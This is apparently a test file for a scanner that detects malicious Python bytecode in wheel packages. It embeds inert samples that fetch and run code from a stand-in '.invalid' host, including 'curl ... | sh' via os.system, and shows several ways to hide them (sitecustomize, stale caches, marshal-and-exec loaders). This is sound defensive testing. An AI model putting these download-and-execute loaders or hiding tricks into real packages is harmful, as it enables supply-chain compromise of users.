/** Programs that ship as bytecode, through the whole pipeline. All of them are inert. */
import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import type { ScanResult } from '../../src/contracts/result.ts';
import { scanBytes } from '../../src/pipeline.ts';
import { zip } from '../support/zip-writer.ts';

/** Fetches a text from a host under .invalid and runs it: two lines, compiled by CPython 3.11. */
const FETCHES =
  'pw0NCgAAAAAAAAAAAAAAAOMAAAAAAAAAAAAAAAAFAAAAAAAAAPN4AAAAlwBkAGQBbABaAQIAZQJlAWoDAAAAAAAAAACgBAAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAKAFAAAAAAAAAAAAAAAAAAAAAAAAAACmAAAAqwAAAAAAAAAAAKYBAACrAQAAAAAAAAAAAQBkAVMAKQPpAAAAAE56IGh0dHA6Ly91cGRhdGVzLmV4YW1wbGUuaW52YWxpZC94KQbaDnVybGxpYi5yZXF1ZXN02gZ1cmxsaWLaBGV4ZWPaB3JlcXVlc3TaB3VybG9wZW7aBHJlYWSpAPMAAAAA+gxvd24vc3RhcnQucHn6CDxtb2R1bGU+cgwAAAABAAAAc0QAAADwAwEBAdgAFdAAFdAAFdAAFdgABIAEgFaEXtcFG9IFG9AcPtEFP9QFP9cFRNIFRNEFRtQFRtEAR9QAR9AAR9AAR9AAR3IKAAAA';
/** A class that reads settings and a function that names a folder, compiled by CPython 3.11. */
const HONEST =
  'pw0NCgAAAAAAAAAAfAEAAOMAAAAAAAAAAAAAAAAEAAAAAAAAAPM2AAAAlwBkAGQBbABaAGQAZAFsAVoBAgBHAGQChABkA6YCAACrAgAAAAAAAAAAWgJkBIQAWgNkAVMAKQXpAAAAAE5jAAAAAAAAAAAAAAAAAQAAAAAAAADzGgAAAJcAZQBaAWQAWgJkAYQAWgNkAoQAWgRkA1MAKQTaCFNldHRpbmdzYwIAAAAAAAAAAAAAAAIAAAADAAAA8yIAAACXAHwBfABfAAAAAAAAAAAAaQB8AF8BAAAAAAAAAABkAFMAKQFOKQLaBHBhdGjaBnZhbHVlcykC2gRzZWxmcgYAAABzAgAAACAg+g9vd24vc2V0dGluZ3MucHnaCF9faW5pdF9fehFTZXR0aW5ncy5fX2luaXRfXwYAAABzFAAAAIAA2BQYiASMCdgWGIgEjAuIC4gL8wAAAABjAQAAAAAAAAAAAAAABgAAAAMAAADzrgAAAJcAdAEAAAAAAAAAAAAAfABqAQAAAAAAAAAApgEAAKsBAAAAAAAAAAA1AH0BdAUAAAAAAAAAAAAAagMAAAAAAAAAAHwBpgEAAKsBAAAAAAAAAAB8AF8EAAAAAAAAAABkAGQAZACmAgAAqwIAAAAAAAAAAAEAbgsjADEAcwR3AngDWQB3AQEAWQABAAEAZAGEAHwAagQAAAAAAAAAAEQApgAAAKsAAAAAAAAAAABTACkCTmMBAAAAAAAAAAAAAAAFAAAAEwAAAPM8AAAAlwBnAHwAXRl9AXwBoAAAAAAAAAAAAAAAAAAAAAAAAAAAAGQApgEAAKsBAAAAAAAAAACwF3wBkQKMGlMAKQHaAV8pAdoKc3RhcnRzd2l0aCkC2gIuMNoEbmFtZXMCAAAAICByCQAAAPoKPGxpc3Rjb21wPnohU2V0dGluZ3MubG9hZC48bG9jYWxzPi48bGlzdGNvbXA+DQAAAHMpAAAAgADQD0nQD0nQD0mYFLBEt0+yT8BD0TRI1DRI0A9JkATQD0nQD0nQD0lyCwAAACkF2gRvcGVucgYAAADaBGpzb27aBGxvYWRyBwAAACkCcggAAADaBnN0cmVhbXMCAAAAICByCQAAAHIVAAAAeg1TZXR0aW5ncy5sb2FkCgAAAHOJAAAAgADdDRGQJJQpiV+MX/AAAQksoAbdGh6cKaBG0Ror1BoriESMS/ADAQks8AABCSzwAAEJLPEAAQks9AABCSzwAAEJLPAAAQks8AABCSzwAAEJLPAAAQks8AABCSz4+PjwAAEJLPAAAQks8AABCSzwAAEJLOAPSdAPSaAUpBvQD0nRD0nUD0nQCElzDQAAAJUaOwO7BD8HwQIBPwdOKQXaCF9fbmFtZV9f2gpfX21vZHVsZV9f2gxfX3F1YWxuYW1lX19yCgAAAHIVAAAAqQByCwAAAHIJAAAAcgQAAAByBAAAAAUAAABzNwAAAIAAgACAAIAAgADwAgIFGfAAAgUZ8AACBRnwCAMFSgHwAAMFSgHwAAMFSgHwAAMFSgHwAAMFSgFyCwAAAHIEAAAAYwAAAAAAAAAAAAAAAAUAAAADAAAA834AAACXAHQAAAAAAAAAAAAAAGoBAAAAAAAAAACgAgAAAAAAAAAAAAAAAAAAAAAAAAAAdAAAAAAAAAAAAAAAagEAAAAAAAAAAKADAAAAAAAAAAAAAAAAAAAAAAAAAABkAaYBAACrAQAAAAAAAAAAZAJkA6YDAACrAwAAAAAAAAAAUwApBE76AX56By5jb25maWfaA293bikE2gJvc3IGAAAA2gRqb2lu2gpleHBhbmR1c2VychoAAAByCwAAAHIJAAAA2gRob21lciEAAAAQAAAAcyoAAACAAN0LDYw3jzyKPJ0CnAfXGCrSGCqoM9EYL9QYL7AZuEXRC0LUC0LQBEJyCwAAACkEchQAAAByHgAAAHIEAAAAciEAAAByGgAAAHILAAAAcgkAAAD6CDxtb2R1bGU+ciIAAAABAAAAc2UAAADwAwEBAdgAC4ALgAuAC9gACYAJgAmACfAGCAFKAfAACAFKAfAACAFKAfAACAFKAfAACAFKAfEACAFKAfQACAFKAfAACAFKAfAWAQFDAfAAAQFDAfAAAQFDAfAAAQFDAfAAAQFDAXILAAAA';
/** The marshalled code of a function that hands a command to the shell. */
const FUNCTION =
  '4wAAAAAAAAAAAAAAAAMAAAADAAAA8zgAAACXAGQBZABsAH0AfACgAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAAEAZABTACkDTukAAAAAeipjdXJsIGh0dHA6Ly91cGRhdGVzLmV4YW1wbGUuaW52YWxpZC94IHwgc2gpAtoCb3PaBnN5c3RlbSkBcgMAAABzAQAAACDaAXjaA3J1bnIGAAAAAQAAAHMkAAAAgADYBA2ASYBJgEnYBAaHSYJJ0A460QQ71AQ70AQ70AQ70AQ78wAAAAA=';
/** The source that HONEST was compiled from. */
const SOURCE = `import json
import os


class Settings:
    def __init__(self, path):
        self.path = path
        self.values = {}

    def load(self):
        with open(self.path) as stream:
            self.values = json.load(stream)
        return [name for name in self.values if not name.startswith('_')]


def home():
    return os.path.join(os.path.expanduser('~'), '.config', 'own')
`;

type Files = Record<string, string | Uint8Array>;

function wheel(files: Files): ScanResult {
  const members = Object.entries(files).map(([name, data]) => ({ name, data }));
  const metadata = {
    name: 'own-1.0.dist-info/METADATA',
    data: 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\nSummary: A small library\n',
  };
  return scanBytes('own', 'own-1.0-py3-none-any.whl', zip([...members, metadata]));
}

const bytes = (base64: string): Uint8Array => Buffer.from(base64, 'base64');
const places = ({ findings }: ScanResult): string[] =>
  findings.map(({ rule, phase, path, line, layer }) => `${rule} ${phase} ${path}:${line} ${layer}`);

/** Where the program lies, and where the finding must be. */
const HIDDEN: [name: string, files: Files, finding: string][] = [
  [
    'a module',
    { 'own/__init__.py': 'from . import start\n', 'own/start.pyc': bytes(FETCHES) },
    'execution/fetch-then-exec import own/start.pyc:2 B1',
  ],
  [
    'a package',
    { 'own/__init__.pyc': bytes(FETCHES) },
    'execution/fetch-then-exec import own/__init__.pyc:2 B1',
  ],
  [
    'a module that every start imports',
    { 'own/__init__.py': '', 'sitecustomize.pyc': bytes(FETCHES) },
    'execution/fetch-then-exec startup sitecustomize.pyc:2 B1',
  ],
  [
    'a cache beside a source that does not do it',
    {
      'own/__init__.py': '',
      'own/start.py':
        'NAMES = ["exec", "read"]  # import urllib.request urlopen http://updates.example.invalid/x\n',
      'own/__pycache__/start.cpython-311.pyc': bytes(FETCHES),
    },
    'execution/fetch-then-exec import own/__pycache__/start.cpython-311.pyc:2 B1',
  ],
  [
    'a file that is read and unmarshalled',
    {
      'own/__init__.py':
        'import marshal, os\nexec(marshal.loads(open(os.path.join(os.path.dirname(__file__), "words.bin"), "rb").read()[16:]))\n',
      'own/words.bin': bytes(FETCHES),
    },
    'execution/fetch-then-exec import own/__init__.py:2 L1',
  ],
  [
    'a function made of a constant',
    {
      'own/__init__.py': `import base64, marshal, types\ntypes.FunctionType(marshal.loads(base64.b64decode("${FUNCTION}")), globals())()\n`,
    },
    'command/download-execute import own/__init__.py:2 L1',
  ],
];

suite('programs in bytecode', () => {
  for (const [name, files, finding] of HIDDEN) {
    test(name, () => {
      const result = wheel(files);
      assert.equal(result.verdict, 'malicious', places(result).join('\n'));
      assert.ok(places(result).includes(finding), places(result).join('\n'));
    });
  }

  test('a report shows the recovered text, and says what it is', () => {
    const result = wheel({ 'own/__init__.pyc': bytes(FETCHES) });
    const excerpt = result.excerpts.find(({ layer, focus }) => layer === 'B1' && focus === 2);
    assert.deepEqual(excerpt?.lines, [
      'import urllib.request',
      'exec(urllib.request.urlopen("http://updates.example.invalid/x").read())',
    ]);
    const [layer] = result.layers;
    assert.deepEqual(
      [layer?.id, layer?.path, layer?.chain],
      ['B1', 'own/__init__.pyc', ['bytecode of Python 3.11']],
    );
    assert.ok(result.arguments.some((argument) => argument.includes('behind bytecode of Python 3.11')));
  });

  test('bytecode whose instructions make no sense leaves the verdict open', () => {
    const damaged = Uint8Array.from(bytes(FETCHES));
    // co_code begins behind 16 bytes of header, a type, five counts, a type and a length.
    damaged.fill(0xef, 42, 42 + 120);
    const result = wheel({ 'own/__init__.pyc': damaged });
    assert.equal(result.verdict, 'incomplete');
    assert.deepEqual(
      result.limitations.map(({ code, where, blocking }) => [code, where, blocking]),
      [['bytecode-unreadable', 'own/__init__.pyc', true]],
    );
  });
});

suite('honest bytecode', () => {
  test('a library without its source is not suspected', () => {
    const result = wheel({ 'own/__init__.py': '', 'own/settings.pyc': bytes(HONEST) });
    assert.equal(result.verdict, 'no-findings', places(result).join('\n'));
    assert.deepEqual(places(result), ['binary/bytecode-without-source import own/settings.pyc:0 null']);
  });

  test('a cache that says what its source says is not read twice', () => {
    const result = wheel({
      'own/__init__.py': '',
      'own/settings.py': SOURCE,
      'own/__pycache__/settings.cpython-311.pyc': bytes(HONEST),
    });
    assert.deepEqual([result.verdict, places(result), result.layers], ['no-findings', [], []]);
  });
});
